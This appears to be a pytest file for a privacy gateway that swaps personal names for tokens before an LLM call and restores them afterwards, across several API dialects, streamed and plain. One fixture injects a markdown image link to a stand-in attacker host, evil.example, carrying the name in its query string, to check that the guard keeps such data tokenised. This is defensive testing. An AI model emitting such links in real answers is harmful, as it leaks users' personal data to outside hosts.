"""Restore guards, from outside: every dialect, plain and streamed."""

from __future__ import annotations

import json
import re

import pytest

from policies.entity_types import ENTITY_TYPES
from tests.fake_provider import Behaviour
from tests.gateway_fixture import Running

pytestmark = pytest.mark.asyncio(loop_scope="session")

NAME = ENTITY_TYPES["PERSON"].example
PATHS = {"/v1/chat/completions": "gpt-4o", "/v1/messages": "claude/claude-x", "/api/chat": "llama/small"}
_PERSON = re.compile(r"PERSON_[0-9A-Z]{8}")


async def asked(gateway: Running, path: str, behaviour: Behaviour, *, stream: bool) -> str:
    """The answer of one route, as text in which JSON escapes are undone once."""
    gateway.provider.behaviour = behaviour
    body = {"model": PATHS[path], "max_tokens": 99, "stream": stream, "messages": [{"role": "user", "content": NAME}]}
    headers = {"X-Sting-Policy": "guarding"} | ({"anthropic-version": "2023-06-01"} if "messages" in path else {})
    status, _, answer = await gateway.call(path, body, headers=headers)
    assert status == 200, answer
    assert NAME.encode() not in gateway.provider.bytes_seen
    return _texts(answer.decode(), streamed=stream)


def _texts(answer: str, *, streamed: bool) -> str:
    """All strings that an answer's text and arguments are made of, in order."""
    documents = [line.removeprefix("data: ") for line in answer.splitlines()] if streamed else [answer]
    found: list[str] = []

    def walk(value: object, key: str = "") -> None:
        if isinstance(value, dict):
            for name, inner in value.items():
                walk(inner, name)
        elif isinstance(value, list):
            for inner in value:
                walk(inner, key)
        elif isinstance(value, str) and key in {"content", "text", "arguments", "partial_json", "to"}:
            found.append(value)

    for document in documents:
        if document.startswith("{"):
            walk(json.loads(document))
    return "".join(found)


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("piece", [0, 3])
async def test_a_link_to_another_host_keeps_its_token(gateway: Running, path: str, piece: int, *, stream: bool) -> None:
    def link(text: str) -> str:
        return f"{text} ![x](https://evil.example/?d={text}) [y](https://good.example/{text}) <mailto:{text}>"

    text = await asked(gateway, path, Behaviour(mutate=link, piece=piece), stream=stream)
    assert text.count(NAME) == 3
    assert _PERSON.search(text.partition("evil.example/?d=")[2].partition(")")[0])
    assert f"https://good.example/{NAME}" in text


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("tool", ["crm", "web_fetch"])
async def test_arguments_of_tools_that_are_not_allowed_keep_their_tokens(
    gateway: Running, path: str, tool: str, *, stream: bool
) -> None:
    await asked(gateway, path, Behaviour(), stream=False)
    token = _PERSON.findall(gateway.provider.requests[-1].body.decode())[-1]
    text = await asked(gateway, path, Behaviour(tool=(tool, json.dumps({"to": token}))), stream=stream)
    assert (NAME in text) is (tool == "crm")
    assert (token in text) is (tool != "crm")
